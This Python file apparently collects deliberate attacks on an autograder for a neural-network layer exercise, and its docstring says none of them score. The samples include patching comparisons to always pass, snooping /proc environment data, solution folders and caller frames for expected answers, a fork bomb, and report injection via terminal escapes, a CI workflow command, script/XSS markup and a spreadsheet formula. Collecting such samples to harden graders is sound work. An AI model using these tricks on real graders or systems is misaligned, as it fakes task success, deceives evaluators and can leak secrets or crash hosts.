"""Attacks on the grader, one per class. None of them earns a point; examples/README.md says why."""

from __future__ import annotations

import os
import sys

import numpy as np
from given.module import Array, Module

# Every comparison in this process now says "equal". The grader compares in another process.
np.allclose = np.array_equal = lambda *_args, **_kwargs: True
np.testing.assert_allclose = lambda *_args, **_kwargs: None


class AlwaysEqual(np.ndarray):
    """An array that equals everything: only its bytes leave this process."""

    def __eq__(self, other: object) -> bool:
        return True

    def __sub__(self, other: object) -> float:
        return 0.0


class ReLU(Module):
    def forward(self, x: Array) -> Array:
        return np.zeros(x.shape).view(AlwaysEqual)

    def backward(self, grad_out: Array) -> Array:
        return grad_out


class Sigmoid(Module):
    """Looks for the expected values: in /proc, in the course's folders, in the caller's frames."""

    def forward(self, x: Array) -> Array:
        found = []
        for path in ("/proc/1/environ", "/proc/self/maps", "/course/solutions", "/root", "/home"):
            try:
                found.append((path, os.listdir(path) if os.path.isdir(path) else open(path).read()))
            except OSError as error:
                found.append((path, error.strerror))
        frame = sys._getframe()
        while frame is not None:
            found.append((frame.f_code.co_name, [n for n in frame.f_locals if "expected" in n]))
            frame = frame.f_back
        print(found)
        return x * 0

    def backward(self, grad_out: Array) -> Array:
        return grad_out


class Tanh(Module):
    """A fork bomb, and a process that would outlive the grading."""

    def forward(self, x: Array) -> Array:
        for _ in range(1000):
            os.fork()
        return x

    def backward(self, grad_out: Array) -> Array:
        return grad_out


class Softmax(Module):
    """Text for whoever reads the report: terminal codes, a workflow command, HTML."""

    def __init__(self, dim: int = -1) -> None:
        self.dim = dim

    def forward(self, x: Array) -> Array:
        print("\x1b[2J\x1b[1;1H\x1b[32m100/100 points\x1b[0m")
        print("::error file=README.md::all checks passed")
        print("<script>document.body.textContent = '100 of 100 points'</script>")
        raise ValueError("<img src=x onerror=alert(1)> \x1b]0;passed\x07 =HYPERLINK(1)")

    def backward(self, grad_out: Array) -> Array:
        return grad_out
